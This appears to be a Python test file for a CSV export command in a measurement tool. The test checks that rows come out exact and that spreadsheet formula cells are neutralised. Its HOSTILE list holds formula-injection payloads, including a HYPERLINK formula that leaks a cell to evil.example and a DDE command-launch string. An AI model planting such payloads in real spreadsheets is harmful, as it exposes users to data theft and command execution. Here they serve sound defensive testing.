"""`depthruler batch export RESULTS --csv OUT`: every row, numbers exact, formula cells neutralised."""

from __future__ import annotations

import csv
import json

import pyarrow as pa
import pyarrow.parquet as pq
from typer.testing import CliRunner

from batch.run import close_readers
from batch_tables import HEADER, invoke, truth
from cli.main import app as cli

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\tTAB", "\rCR"]


def test_export_reads_back_neutralised_and_exact(archive, tmp_path):
    rec = archive / "rec_poster"
    t = truth(rec, 0)
    (x1, y1), (x2, y2) = t["p1_px"], t["p2_px"]
    table = tmp_path / "t.csv"
    with table.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(HEADER)
        for k, label in enumerate([*HOSTILE, "plain"]):
            w.writerow([str(rec), k % 4, x1 + k, y1, x2 - k, y2, "", label])
        w.writerow([str(rec), 0, -1.5, y1, x2, y2, "", "outside"])  # a negative number stays a number
    results = tmp_path / "r.parquet"
    invoke(["batch", str(table), "--out", str(results), "--workers", "1"])
    close_readers()
    out = tmp_path / "r.csv"
    assert f"wrote {len(HOSTILE) + 2} rows to {out}" in invoke(["batch", "export", str(results), "--csv", str(out)])
    with out.open(newline="", encoding="utf-8") as fh:
        back = list(csv.DictReader(fh))
    stored = pq.read_table(results).to_pylist()
    assert len(back) == len(stored) == len(HOSTILE) + 2
    assert "samples_px" not in back[0] and "support" not in back[0] and "distance_m" in back[0]
    for b, s in zip(back, stored):
        if s["label"] in HOSTILE:
            assert b["label"] == "'" + s["label"]  # shown as text by a spreadsheet, never run
        else:
            assert b["label"] == s["label"]
        assert int(b["task"]) == s["task"] and float(b["p1_x"]) == s["p1_x"]  # numbers are numbers, exactly
        if s["distance_m"] is None:
            assert b["distance_m"] == ""
        else:
            assert float(b["distance_m"]) == s["distance_m"] and json.loads(b["p1_m"]) == s["p1_m"] and json.loads(b["interval_m"]) == s["interval_m"]
    outside = back[-1]
    assert outside["p1_x"] == "-1.5" and outside["error_type"] == "MeasureError"
    # with the samples, the drawing columns come along as JSON
    invoke(["batch", "export", str(results), "--csv", str(out), "--samples"])
    with out.open(newline="", encoding="utf-8") as fh:
        first = next(csv.DictReader(fh))
    assert json.loads(first["samples_px"]) == stored[0]["samples_px"]


def test_export_bad_paths_are_one_line_errors(tmp_path):
    res = CliRunner().invoke(cli, ["batch", "export", str(tmp_path / "none.parquet"), "--csv", str(tmp_path / "o.csv")])
    assert res.exit_code == 1 and "does not exist" in res.output and not (tmp_path / "o.csv").exists()
    (tmp_path / "junk.parquet").write_bytes(b"not parquet")
    res = CliRunner().invoke(cli, ["batch", "export", str(tmp_path / "junk.parquet"), "--csv", str(tmp_path / "o.csv")])
    assert res.exit_code == 1 and "not a readable Parquet file" in res.output
    pq.write_table(pa.table({"task": [0], "label": ["=1+1"]}), tmp_path / "ok.parquet")
    (tmp_path / "a-file").write_text("")
    res = CliRunner().invoke(cli, ["batch", "export", str(tmp_path / "ok.parquet"), "--csv", str(tmp_path / "a-file" / "o.csv")])
    assert res.exit_code == 1 and "cannot write" in res.output and len(res.output.strip().splitlines()) == 1
